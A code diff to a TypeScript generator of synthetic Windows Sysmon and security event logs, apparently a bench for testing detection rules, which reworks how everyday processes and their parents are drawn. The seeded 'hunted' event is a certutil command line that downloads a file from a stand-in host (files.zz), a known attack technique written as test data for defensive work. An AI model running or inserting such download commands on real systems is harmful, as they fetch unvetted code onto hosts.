@@ -5,7 +5,7 @@ export const eventsOfDay = 500_000;
 /** One event in so many shows an indicator. */
 const indicatorEvery = 50_000;
 /** One process start in so many is what the rule of the bench looks for. */
-const huntedEvery = 100_000;
+const huntedEvery = 250_000;
 
 const firstDayMs = Date.UTC(2026, 0, 1);
 const dayMs = 86_400_000;
@@ -44,22 +44,20 @@ export class MadeEvents {
     const host = `WS-${String(chance() % 400).padStart(3, '0')}.corp.zz`;
     const head = `{"TimeCreated":"${time.toISOString()}","Hostname":"${host}","RecordNumber":${n + 1}`;
     const user = `CORP\\\\user${chance() % 900}`;
-    const drawn = images[chance() % images.length] as string;
-    const image = isHunted(n) ? certutil : drawn;
+    const usual = programs[chance() % programs.length] as Program;
+    const program = isHunted(n) ? certutil : usual;
+    const { image } = program;
     const process = `"ProcessGuid":"${guid(chance)}","ProcessId":"${chance() % 20_000}","Image":"${image}","User":"${user}"`;
-    if (n % 4 === 1) return `${head},${sysmon(1)},${process},${this.started(n, chance, image)}}\n`;
+    if (n % 4 === 1) return `${head},${sysmon(1)},${process},${this.started(n, chance, program)}}\n`;
     if (n % 4 !== 3) return `${head},${sysmon(3)},${process},${this.connected(n, chance)}}\n`;
     if (n % 8 === 3) return `${head},${sysmon(22)},${process},${this.asked(n, chance)}}\n`;
     return `${head},${security},${this.loggedOn(n, chance)}}\n`;
   }
 
-  private started(n: number, chance: Chance, image: string): string {
-    const parent = images[chance() % images.length] as string;
+  private started(n: number, chance: Chance, { image, parent, words }: Program): string {
     const name = image.slice(image.lastIndexOf('\\') + 1);
-    const command = isHunted(n)
-      ? 'certutil.exe -urlcache -split -f http://files.zz/a.txt a.txt'
-      : `\\"${image}\\" ${commands[chance() % commands.length]} ${chance() % 5_000}`;
-    return `"OriginalFileName":"${name}","CommandLine":"${command}","LogonId":"0x${(chance() % 90_000).toString(16)}","IntegrityLevel":"${chance() % 5 === 0 ? 'High' : 'Medium'}","Hashes":"SHA256=${this.value('sha256', n, chance)}","ParentImage":"${parent}","ParentCommandLine":"${parent} -k"`;
+    const command = isHunted(n) ? words : `\\"${image}\\" ${words} ${chance() % 5_000}`;
+    return `"OriginalFileName":"${name}","CommandLine":"${command}","LogonId":"0x${(chance() % 90_000).toString(16)}","IntegrityLevel":"${chance() % 5 === 0 ? 'High' : 'Medium'}","Hashes":"SHA256=${this.value('sha256', n, chance)}","ParentImage":"${parent}","ParentCommandLine":"${parent}"`;
   }
 
   private connected(n: number, chance: Chance): string {
@@ -123,30 +121,38 @@ function guid(chance: Chance): string {
   return `{3b1c7f90-${part()}-${part()}-${part()}-00000000${part()}}`;
 }
 
-/** As JSON spells them. */
-const images = [
-  'Windows\\System32\\svchost.exe',
-  'Windows\\System32\\cmd.exe',
-  'Windows\\System32\\conhost.exe',
-  'Windows\\System32\\RuntimeBroker.exe',
-  'Windows\\System32\\backgroundTaskHost.exe',
-  'Windows\\System32\\taskhostw.exe',
-  'Windows\\explorer.exe',
-  'Program Files\\Google\\Chrome\\Application\\chrome.exe',
-  'Program Files\\Microsoft Office\\root\\Office16\\OUTLOOK.EXE',
-  'Program Files\\Microsoft Office\\root\\Office16\\EXCEL.EXE',
-  'Program Files\\7-Zip\\7zFM.exe',
-  'Users\\Public\\agent\\agent.exe',
-].map((path) => `C:\\${path}`.replaceAll('\\', '\\\\'));
+interface Program {
+  readonly image: string;
+  readonly parent: string;
+  /** Of the command line, behind the program. */
+  readonly words: string;
+}
 
-const certutil = 'C:\\\\Windows\\\\System32\\\\certutil.exe';
-
-const commands = [
-  '-k netsvcs -p -s',
-  '/c type',
-  '-Embedding',
-  '--type=renderer --id',
-  '/recycle',
-  '-ServerName:App',
-  '/n',
+/** Everyday programs, so that few rules have something to say about them. Texts as JSON spells them. */
+const programs: readonly Program[] = [
+  program('Windows\\System32\\RuntimeBroker.exe', 'Windows\\System32\\svchost.exe', '-Embedding'),
+  program('Windows\\System32\\backgroundTaskHost.exe', 'Windows\\System32\\svchost.exe', '-ServerName:App'),
+  program('Windows\\System32\\taskhostw.exe', 'Windows\\System32\\svchost.exe', 'Install'),
+  program(
+    'Windows\\System32\\dllhost.exe',
+    'Windows\\System32\\svchost.exe',
+    '/Processid:{3eb3c877-1f16-487c-9050-104dbcd66683}',
+  ),
+  program('Windows\\System32\\SearchProtocolHost.exe', 'Windows\\System32\\SearchIndexer.exe', 'Global'),
+  program('Windows\\System32\\wbem\\WmiPrvSE.exe', 'Windows\\System32\\svchost.exe', '-secured -Embedding'),
+  program('Program Files\\Google\\Chrome\\Application\\chrome.exe', 'Windows\\explorer.exe', '--profile'),
+  program('Program Files (x86)\\Microsoft\\Edge\\Application\\msedge.exe', 'Windows\\explorer.exe', '--window'),
+  program('Program Files\\Mozilla Firefox\\firefox.exe', 'Windows\\explorer.exe', '-osint -url'),
+  program('Program Files\\7-Zip\\7zFM.exe', 'Windows\\explorer.exe', 'notes'),
 ];
+
+const certutil = program(
+  'Windows\\System32\\certutil.exe',
+  'Windows\\explorer.exe',
+  'certutil.exe -urlcache -split -f http://files.zz/a.txt a.txt',
+);
+
+function program(image: string, parent: string, words: string): Program {
+  const spelt = (path: string) => `C:\\${path}`.replaceAll('\\', '\\\\');
+  return { image: spelt(image), parent: spelt(parent), words };
+}
